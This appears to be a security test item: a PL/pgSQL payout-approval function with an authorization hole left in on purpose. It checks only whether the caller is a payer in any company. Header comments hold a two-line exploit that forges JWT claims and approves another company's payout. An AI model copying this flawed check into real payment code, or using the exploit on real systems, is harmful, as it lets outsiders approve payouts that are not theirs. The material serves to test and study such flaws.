-- The approval checks that the caller may pay in some company, not in the payout's own: others' payouts go
-- out.
-- about: approve_payout, payouts
-- as: hf_gigpurse_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-1111-4000-8000-000000000001"}';
-- exploit: SELECT payee, state FROM pay.approve_payout('PO-2');
-- shows: Road-secret Bea
CREATE FUNCTION pay.approve_payout(p_reference text) RETURNS SETOF pay.payouts
LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pay, pg_temp
AS $$
BEGIN
  IF NOT EXISTS (SELECT 1 FROM company_members m WHERE m.user_id = uid() AND m.role IN ('payer', 'owner'))
    THEN
    RAISE EXCEPTION 'not allowed to approve payouts';
  END IF;
  RETURN QUERY UPDATE payouts SET state = 'approved'
    WHERE reference = p_reference AND state = 'draft' RETURNING *;
END $$;
REVOKE EXECUTE ON FUNCTION pay.approve_payout(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION pay.approve_payout(text) TO hf_gigpurse_app;
